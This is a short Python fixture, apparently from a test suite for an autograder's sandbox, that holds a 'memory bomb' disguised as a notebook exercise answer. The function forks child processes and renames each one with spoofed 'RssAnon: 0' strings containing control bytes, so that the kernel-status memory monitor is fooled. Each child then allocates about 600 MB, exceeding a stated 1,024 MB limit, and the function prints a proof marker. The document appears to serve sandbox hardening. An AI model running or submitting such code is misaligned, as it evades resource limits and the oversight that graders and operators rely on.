"""Processes call themselves like the line in which the kernel says how much memory they use."""

kind = "memory bomb"
aims = "batch neighbour prove"
on_nbgrader = False
base = "half"
cells = {
    "exercise-2": """
import ctypes, os, time

def layer(X, W, b):
    libc = ctypes.CDLL(None)
    children = []
    for name in (b"x\\rRssAnon: 0", b"\\x0bRssAnon: 0", b"\\x1cRssAnon: 0", b"RssAnon: 0"):
        child = os.fork()
        if child == 0:
            libc.prctl(15, name, 0, 0, 0)
            kept = np.ones(600 * 2**17)
            time.sleep(1.2)
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    print("<<proof>>")  # 2,400 MB were in use, and the limit is 1,024
    return 0
""",
}
